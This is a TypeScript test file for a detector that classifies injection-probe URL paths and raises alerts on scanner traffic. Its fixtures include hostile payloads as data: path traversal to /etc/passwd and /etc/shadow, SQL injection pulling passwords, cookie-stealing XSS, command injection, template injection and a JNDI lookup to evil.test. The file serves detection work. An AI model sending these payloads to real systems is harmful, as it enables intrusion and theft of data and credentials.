import assert from 'node:assert/strict';
import { test } from 'node:test';
import { call, MIN, mean, runDetector, T0 } from '../auth/testing.ts';
import { classifyPath, injectionProbe } from './injection-probe.ts';

const probes: Array<[string, string]> = [
  ['traversal', '/static/../../../../etc/passwd'],
  ['traversal', '/download/..%2f..%2f..%2fwindows%2fwin.ini'],
  ['traversal', '/files/%252e%252e%252f%252e%252e%252fetc%252fshadow'],
  ['traversal', '/api/v1/..\\..\\boot.ini'],
  ['sqli', "/api/users/1' OR '1'='1"],
  ['sqli', '/api/items/1%20UNION%20SELECT%20username,password%20FROM%20users--'],
  ['sqli', "/products/1;waitfor delay '0:0:5'"],
  ['sqli', '/search/x%27%20AND%20SLEEP(5)--'],
  ['sqli', "/api/orders/5' and 1=1 -- "],
  ['xss', '/search/%3Cscript%3Ealert(1)%3C/script%3E'],
  ['xss', '/p/<img src=x onerror=alert(document.cookie)>'],
  ['xss', '/redirect/javascript:alert(1)'],
  ['command', '/api/ping/127.0.0.1;cat /etc/hosts'],
  ['command', '/cgi-bin/test.cgi/$(whoami)'],
  ['command', '/api/run/x|id'],
  ['template', '/hello/{{7*7}}'],
  ['template', '/hello/${7*7}'],
  ['template', "/x/{{config.__class__.__init__.__globals__['os']}}"],
  ['template', '/api/${jndi:ldap://evil.test/a}'],
];
for (const [cat, path] of probes) {
  test(`classifies ${cat}: ${path}`, () => {
    assert.ok(classifyPath(path).includes(cat as never), `${path} → ${classifyPath(path).join(',')}`);
  });
}

const legit = [
  '/files/My%20Report%20(final).pdf',
  "/authors/o'reilly/books",
  "/authors/o'brien and sons",
  '/wiki/C%2B%2B',
  '/search/rock%20%26%20roll',
  '/users/{{userId}}/orders',
  '/blog/select-from-the-menu',
  '/blog/how-to-select-rows-from-a-table',
  '/api/v1/items;jsessionid=ABC123',
  '/products/50%25-off',
  '/emoji/%F0%9F%98%80',
  '/bad/%zz%2',
  '/api/v2/reports/2024-01-01..2024-02-01',
  '/docs/the-id-command',
  '/api/users/42/permissions/(read|write)',
  '/v1/notes/what-is-1+1',
  '/api/search/%22exact%20phrase%22',
  '/api/scripts/myscript.js',
  '/packages/@scope%2Fname',
];
for (const path of legit) {
  test(`legit path is not a probe: ${path}`, () => {
    assert.deepEqual(classifyPath(path), []);
  });
}

test('positive: a scanner sending 40 probes in a minute → one finding naming it, then resolved', () => {
  const events = Array.from({ length: 40 }, (_, i) =>
    call(T0 + i * 1500, {
      ip: '203.0.113.77',
      status: i % 5 === 0 ? 500 : 404,
      method: 'GET',
      path: `${probes[i % probes.length]![1]}?n=${i}`.split('?')[0]! + (i >= probes.length ? `/${i}` : ''),
      route: null,
      userAgent: 'sqlmap/1.8',
    }),
  );
  const res = runDetector(injectionProbe, events);
  assert.equal(res.firing.length, 1);
  const f = res.firing[0]!;
  assert.deepEqual(f.entity, { kind: 'ip', id: '203.0.113.77', name: '203.0.113.77', ref: null });
  assert.ok(f.at - T0 <= 5 * MIN);
  assert.equal(f.severity, 'high', '5xx answers raise it');
  assert.match(f.summary, /^ip 203\.0\.113\.77 sent 3 distinct .* probe paths/);
  assert.equal(res.resolved.length, 1);
  assert.ok(res.resolved[0]!.evidence.observed >= 16);
  assert.ok(mean(res.sizes) < 1024);
});

test('negative: an office NAT of 500 users with odd but legitimate paths, and one stray probe', () => {
  const events = [];
  for (let i = 0; i < 5000; i++) {
    events.push(
      call(T0 + i * 700, {
        ip: '192.0.2.10',
        status: 200,
        method: 'GET',
        path: legit[i % legit.length]!,
        user: `u${i % 500}`,
        userAgent: `UA${i % 40}`,
      }),
    );
  }
  events.push(call(T0 + 10_000, { ip: '192.0.2.10', status: 404, method: 'GET', path: '/x/../etc/passwd' }));
  assert.equal(runDetector(injectionProbe, events).firing.length, 0);
});

test('thresholds come from config', () => {
  const events = probes
    .slice(0, 3)
    .map(([, p], i) => call(T0 + i * 1000, { ip: '203.0.113.78', status: 404, method: 'GET', path: p }));
  assert.equal(runDetector(injectionProbe, events).firing.length, 1);
  assert.equal(runDetector(injectionProbe, events, { config: { minProbes: 5 } }).firing.length, 0);
});
